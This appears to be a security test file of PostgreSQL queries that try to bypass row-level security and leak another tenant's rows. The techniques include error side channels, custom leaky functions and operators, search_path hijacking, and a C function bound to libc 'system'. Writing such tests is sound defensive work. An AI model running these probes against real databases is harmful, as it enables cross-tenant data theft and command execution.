-- Errors, casts and functions of one's own that see a row before the policy does.
-- let target = {victim_table} | {victim_other} | {victim_link}
-- let meta = rowhouse.base | rowhouse.field | rowhouse.view | rowhouse.person | rowhouse.audit_event
-- | rowhouse.base_share | rowhouse.trash
--# division by zero in where [state=22012]
select 1 from {target} t where 1 / (length(t::text) - length(t::text)) > 0
--# division by zero in where of what is shared [state=22012]
select 1 from {meta} t where (to_jsonb(t) ->> 'org_id') is distinct from '{own_id}' and to_jsonb(t) ->> 'id' is
distinct from '{own_person}' and 1 / (length(t::text) - length(t::text)) > 0
--# cast of a row to a number in where [state=22P02]
select 1 from {target} t where (t::text)::integer > 0
--# cast of a shared row to a number in where [state=22P02]
select 1 from {meta} t where (to_jsonb(t) ->> 'org_id') is distinct from '{own_id}' and to_jsonb(t) ->> 'id' is
distinct from '{own_person}' and (t::text)::integer > 0
--# cast of a row to a relation [state=42P01 state=42602]
select 1 from {target} t where (t::text)::regclass is null
--# cast of a row to JSON [state=22P02]
select 1 from {target} t where (t::text)::json is null
--# cast of a row to XML [state=2200M state=2200N]
select 1 from {target} t where ('<' || t::text)::xml is null
--# cast of a row to a date [state=22007]
select 1 from {target} t where (t::text)::date is null
--# cast of a row to an address [state=22P02]
select 1 from {target} t where (t::text)::inet is null
--# cast of a row to bytes [state=22P02 state=22023]
select 1 from {target} t where ('\xz' || t::text)::bytea is null
--# a broken expression on each row [state=2201B]
select 1 from {target} t where t::text ~ ('[' || t::text)
--# a broken pattern on each row [state=22025]
select 1 from {target} t where t::text like (t::text || '\')
--# a broken format on each row [state=22023]
select 1 from {target} t where format('%' || chr(33) || t::text) is null
--# a logarithm of each row [state=2201E]
select 1 from {target} t where ln(-length(t::text)) > 0
--# a root of each row [state=2201F]
select 1 from {target} t where sqrt(-length(t::text)) > 0
--# an overflow on each row [state=22003]
select 1 from {target} t where length(t::text)::integer * 2147483647 > 0
--# an overflow of a power on each row [state=22003]
select 1 from {target} t where power(10::float8, length(t::text) * 1000) > 0
--# a setting from each row [state=42704 state=42602 state=22023]
select 1 from {target} t where current_setting(t::text) is null
--# set a setting from each row [value]
select count(*) from {target} t where set_config('app.seen', t::text, true) is null; select
current_setting('app.seen', true)
--# take a lock for each row and look at the locks [value]
select count(*) from {target} t where pg_advisory_xact_lock(4242, hashtext(t::text)) is not null; select count(*) from
pg_locks where classid = 4242
--# notify for each row
listen leak; select count(*) from {target} t where pg_notify('leak', t::text) is null; commit
--# keep each row as a large object [value]
select count(*) from {target} t where lo_from_bytea(0, convert_to(t::text, 'UTF8')) > 0; select count(*) from
pg_largeobject_metadata
--# a substring with a length below zero [state=22011]
select 1 from {target} t where substring(t::text, 1, -length(t::text)) is null
--# an array index from each row [state=2202E]
select 1 from {target} t where array_fill(0, array[-length(t::text)]) is null
--# a sleep for each row is timing; a cancel by statement timeout is not [state=57014]
set local statement_timeout = 300; select 1 from {target} t where pg_sleep(1) is not null
--# a call through a function's own error [state=P0001 state=RH666]
select 1 from {target} t where gate.assert(length(t::text) < 0, 'RH666')
--# raise with each row's state
select 1 from {target} t where gate.raise(left(md5(t::text), 5))
--# query_to_xml with an error of each row
select query_to_xml('select 1 from {target} t where (t::text)::integer > 0', true, true, '')
--# a domain check on each row [success]
create domain pg_temp.leak as text check (value::integer > 0); select 1 from {target} t where (t::text)::pg_temp.leak
is null
--# a function of one's own [success]
create function pg_temp.leak(t text) returns boolean language plpgsql cost 0.0000001 as $$ begin raise notice '%', t;
return true; end $$
--# a function of one's own in where
create function pg_temp.leak(t text) returns boolean language plpgsql cost 0.0000001 as $$ begin raise notice '%', t;
return true; end $$;
select 1 from {target} t where pg_temp.leak(t::text)
--# a function of one's own in where of what is shared
create function pg_temp.leak(t text) returns boolean language plpgsql cost 0.0000001 as $$ begin raise notice '%', t;
return true; end $$;
select 1 from {meta} t where pg_temp.leak(t::text)
--# a function that claims to be leakproof [success]
create function pg_temp.leak(t text) returns boolean language plpgsql leakproof cost 0.0000001 as $$ begin raise
notice '%', t; return true; end $$
--# an operator of one's own [success]
create function pg_temp.leak(text, text) returns boolean language plpgsql cost 0.0000001 as $$ begin raise notice '%',
$1; return true; end $$;
create operator pg_temp.=== (leftarg = text, rightarg = text, function = pg_temp.leak); select 1 from {target} t where
t::text operator(pg_temp.===) ''
--# an operator of one's own in place of equality
create function pg_temp.eq(uuid, uuid) returns boolean language sql as 'select true';
create operator pg_temp.= (leftarg = uuid, rightarg = uuid, function = pg_temp.eq); set local search_path = pg_temp,
pg_catalog; select * from rowhouse.base
--# a function of one's own in place of current_setting
create function pg_temp.current_setting(text, boolean) returns text language sql as $$ select '{victim_id}' $$;
set local search_path = pg_temp, pg_catalog; select * from {target} limit 1
--# a function of one's own in place of sha256
create function pg_temp.sha256(bytea) returns bytea language sql as $$ select '\x00'::bytea $$;
set local search_path = pg_temp, pg_catalog; select * from {target} limit 1
--# a table of one's own in place of the service's
create temporary table data_table (org_id uuid, number integer, version bigint); insert into data_table values
('{own_id}', {victim_number}, 1);
set local search_path = pg_temp, rowhouse; select gate.find_records('{victim_schema}', {victim_number}, 's_0',
array[{victim_column_number}], '%', 5, null, null, null)
--# a cast of one's own [success]
create function pg_temp.c(uuid) returns integer language sql as 'select 1'; create cast (uuid as integer) with
function pg_temp.c(uuid) as implicit
--# a type of one's own [success]
create type public.leak as (a text)
--# an aggregate of one's own over the victim's rows
create function pg_temp.f(text, text) returns text language sql as $$ select $1 || $2 $$;
create aggregate pg_temp.g (text) (sfunc = pg_temp.f, stype = text, initcond = ''); select pg_temp.g(t::text) from
{target} t
--# a temporary table at all [success]
create temporary table t (a text)
--# a temporary copy of the victim's rows [value]
create temporary table t as select * from {target}; select count(*) from t
--# a temporary view on the victim's rows [value]
create temporary view v as select * from {target}; select count(*) from v
--# select into [value]
select * into temporary t from {target}; select count(*) from t
--# a temporary sequence [success]
create temporary sequence s
--# a function elsewhere [success]
create function public.leak() returns text language sql as 'select ''''::text'
--# a function in the gate [success]
create function gate.leak() returns text language sql security definer as 'select ''''::text'
--# a function in another language [success]
create function pg_temp.c(text) returns integer language c as 'libc.so.6', 'system'
--# an internal function under another name [success]
create function pg_temp.i(oid) returns bigint language internal as 'pg_relation_size'
--# a language [success]
create extension plpython3u
--# leak in a select list under a limit that skips policies
select (t::text)::integer from {target} t limit 1
--# leak in an order by [state=22P02]
select 1 from {target} t order by (t::text)::integer
--# leak in a group by [state=22P02]
select 1 from {target} t group by (t::text)::integer
--# leak in a distinct on [state=22P02]
select distinct on ((t::text)::integer) 1 from {target} t
--# leak in a join condition with one's own table [state=22P02]
select 1 from {own_table} o join {target} t on (t::text)::integer > 0
--# leak in an outer join [state=22P02]
select 1 from {own_table} o left join {target} t on (t::text)::integer > length(o::text)
--# leak in a lateral join [state=22P02]
select 1 from {own_table} o, lateral (select (t::text)::integer x from {target} t where t::text <> o::text) l where x
> 0
--# leak in an aggregate's filter [state=22P02]
select count(*) filter (where (t::text)::integer > 0) from {target} t
--# leak in a having clause [value]
select count(*) from {target} t having count(*) > 0
--# a non-leakproof function in an index condition [value]
select count(*) from {target} t where t::text like '%a%'
--# leak by a regular expression [value]
select count(*) from {target} t where t::text ~* 'rec'
--# a sample of the table [row]
select t.* from {target} t tablesample system (100) limit 3
--# a sample of the rows [row]
select t.* from {target} t tablesample bernoulli (100) repeatable (1) limit 3
